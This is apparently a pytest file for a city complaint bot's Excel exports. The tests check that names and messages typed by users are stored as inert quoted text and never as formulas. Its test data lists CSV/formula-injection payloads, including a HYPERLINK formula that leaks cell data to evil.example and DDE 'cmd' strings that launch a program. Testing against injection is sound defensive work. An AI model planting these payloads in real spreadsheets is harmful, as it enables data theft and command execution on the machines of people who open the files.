"""What people typed is never a formula in what is exported, be it figures or the organisation of the city."""

import re
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bot.workbook.report import Reports
from bot.workbook.writing import write_invitations, write_organisation
from tests.city import CityHarness

HOSTILE = (
    '=HYPERLINK("http://evil.example?"&A1;"xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
)
WARD = "phuong-khuong-dinh"


def formulas(path: Path) -> list[str]:
    """Return what a spreadsheet program would calculate: elements <f> in any sheet."""
    with zipfile.ZipFile(path) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
        return [each for name in sheets for each in re.findall(r"<f[ >].*?</f>", book.read(name).decode())]


def held(path: Path) -> list[Any]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(path: Path, *wanted: str) -> None:
    assert formulas(path) == []
    cells = [cell for cell in held(path) if isinstance(cell.value, str)]
    for text in wanted:
        found = [cell for cell in cells if cell.value.strip("\t") == text.strip("\t")]
        assert found, text
        for cell in found:
            assert (cell.data_type, bool(cell.quotePrefix)) == ("s", True), text


@pytest.mark.parametrize("text", HOSTILE)
async def test_figures_and_cases_hold_no_formula(city: CityHarness, text: str) -> None:
    unit = replace(city.city.units[WARD], name=text)
    domains = {**city.city.domains, "waste": replace(city.city.domains["waste"], name=text)}
    await city.changes(units={**city.city.units, WARD: unit}, domains=domains)
    leader = await city.official("ha-noi", "leader")
    an = city.citizen("an")
    await an.writes(f"Rác chất đống trước ngõ 12 Vũ Tông Phan, phường Khương Đình {text}")
    await an.files()
    await leader.writes("/xuat hôm nay các phường nhận bao nhiêu phản ánh")
    path, _ = await Reports(city.database, now=city.clock).make(city.exported[-1])
    try:
        assert_inert(path, text)
    finally:
        path.unlink()


def test_names_in_the_organisation_s_book_are_no_formulas(tmp_path: Path) -> None:
    from bot.workbook import sheets

    rows: dict[str, list[dict[str, Any]]] = {sheet.name: [] for sheet in sheets.sheets()}
    officials = next(sheet for sheet in sheets.sheets() if sheet.name == "Officials")
    column = next(column.id for column in officials.columns if column.id == "name")
    rows["Officials"] = [{column: text} for text in HOSTILE]
    path = tmp_path / "org.xlsx"
    write_organisation(path, rows)
    assert_inert(path, *HOSTILE)


def test_names_in_a_list_of_invitations_are_no_formulas(tmp_path: Path) -> None:
    path = tmp_path / "invitations.xlsx"
    write_invitations(path, [{"name": text} for text in HOSTILE])
    assert_inert(path, *HOSTILE)
